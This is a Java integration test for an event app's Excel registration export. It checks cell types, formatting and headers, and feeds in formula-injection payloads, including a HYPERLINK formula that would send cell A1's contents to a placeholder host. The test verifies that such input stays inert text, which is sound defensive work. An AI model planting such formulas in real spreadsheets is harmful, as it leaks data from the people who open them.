package org.winformusic.events.export;

import java.io.ByteArrayInputStream;
import java.util.ArrayList;
import java.util.List;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.winformusic.events.IntegrationTest;
import org.winformusic.events.TestEvents;
import org.winformusic.events.TestRegistrations;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.security.test.context.support.WithMockUser;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * The Excel download: same columns and values as the CSV; the id and the waitlist
 * position are numbers (they sort 1, 2, 10), every other cell text, never a formula; a
 * bold, frozen header row with an autofilter.
 */
@IntegrationTest
@AutoConfigureMockMvc
@WithMockUser(roles = "OPS")
class ExportXlsxTests {

	@Autowired
	MockMvc mvc;

	@Autowired
	JdbcClient jdbc;

	@Test
	void everyCellButTheNumbersIsTextWithTheStoredValueEvenFormulasAndPhoneNumbers() throws Exception {
		TestRegistrations data = new TestRegistrations(this.jdbc);
		String slug = new TestEvents(this.jdbc).event().slugPrefix("xlsx").withoutSeats().create().slug();
		List<String> payloads = List.of("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "=HYPERLINK(\"http://x?\"&A1)",
				"x\",=1+1", "José Peña 🎶 مرحبا");
		for (String payload : payloads) {
			data.in(slug).fullName(payload).phone("+52 0055 1234").status("WAITLISTED").confirmedAt(null).create();
		}

		MvcResult result = this.mvc.perform(get("/admin/events/" + slug + "/registrations.xlsx?lang=en"))
			.andExpect(status().isOk())
			.andExpect(header().string("Content-Type",
					"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"))
			.andExpect(header().string("Content-Disposition",
					org.hamcrest.Matchers.matchesPattern("attachment; filename=\"" + slug
							+ "-registrations-\\d{4}-\\d{2}-\\d{2}\\.xlsx\"; filename\\*=UTF-8''" + slug
							+ "-registrations-\\d{4}-\\d{2}-\\d{2}\\.xlsx")))
			.andExpect(header().string("Cache-Control", "no-store"))
			.andReturn();

		try (XSSFWorkbook workbook = new XSSFWorkbook(
				new ByteArrayInputStream(result.getResponse().getContentAsByteArray()))) {
			Sheet sheet = workbook.getSheetAt(0);
			assertThat(values(sheet.getRow(0))).isEqualTo(ExportCsvTests.ENGLISH_HEADERS);
			assertThat(sheet.getLastRowNum()).isEqualTo(payloads.size());
			assertHeaderRowIsBoldFrozenAndFiltered(workbook, sheet, ExportCsvTests.ENGLISH_HEADERS.size());
			for (int i = 0; i < payloads.size(); i++) {
				Row row = sheet.getRow(i + 1);
				assertThat(row.getLastCellNum()).isEqualTo((short) ExportCsvTests.ENGLISH_HEADERS.size());
				for (Cell cell : row) {
					if (cell.getColumnIndex() == 0 || cell.getColumnIndex() == 21) {
						assertThat(cell.getCellType()).isEqualTo(CellType.NUMERIC);
					}
					else {
						assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
						assertThat(cell.getCellStyle().getDataFormatString()).isEqualTo("@");
					}
				}
				assertThat(row.getCell(1).getStringCellValue()).isEqualTo("WAITLISTED");
				assertThat(row.getCell(2).getStringCellValue()).isEqualTo(payloads.get(i));
				assertThat(row.getCell(9).getStringCellValue()).isEqualTo("+52 0055 1234");
				// The exact export keeps the time with its offset, as the CSV.
				assertThat(row.getCell(16).getStringCellValue()).isEqualTo("2028-03-01T10:15:00-06:00");
				assertThat(row.getCell(21).getNumericCellValue()).isEqualTo(i + 1);
			}
			List<Long> ids = new ArrayList<>();
			sheet.forEach((row) -> {
				if (row.getRowNum() > 0) {
					ids.add((long) row.getCell(0).getNumericCellValue());
				}
			});
			assertThat(ids).containsExactlyInAnyOrderElementsOf(this.jdbc
				.sql("select r.id from registration r join event e on e.id = r.event_id where e.slug = ? order by r.id")
				.param(slug)
				.query(Long.class)
				.list());
		}
	}

	/**
	 * The first row is bold, stays in view when scrolling, carries an autofilter over
	 * every column and row, and no column is left at Excel's narrow default width.
	 */
	static void assertHeaderRowIsBoldFrozenAndFiltered(XSSFWorkbook workbook, Sheet sheet, int columns) {
		for (Cell cell : sheet.getRow(0)) {
			assertThat(workbook.getFontAt(cell.getCellStyle().getFontIndex()).getBold()).isTrue();
		}
		assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
		assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
		assertThat(sheet.getPaneInformation().getVerticalSplitPosition()).isZero();
		assertThat(((org.apache.poi.xssf.usermodel.XSSFSheet) sheet).getCTWorksheet().getAutoFilter().getRef())
			.isEqualTo("A1:" + org.apache.poi.ss.util.CellReference.convertNumToColString(columns - 1)
					+ (sheet.getLastRowNum() + 1));
		for (int i = 0; i < columns; i++) {
			assertThat(sheet.getColumnWidth(i)).as("column " + i).isGreaterThanOrEqualTo(10 * 256);
		}
	}

	static List<String> values(Row row) {
		List<String> values = new ArrayList<>();
		row.forEach((cell) -> values.add(cell.getStringCellValue()));
		return values;
	}

}
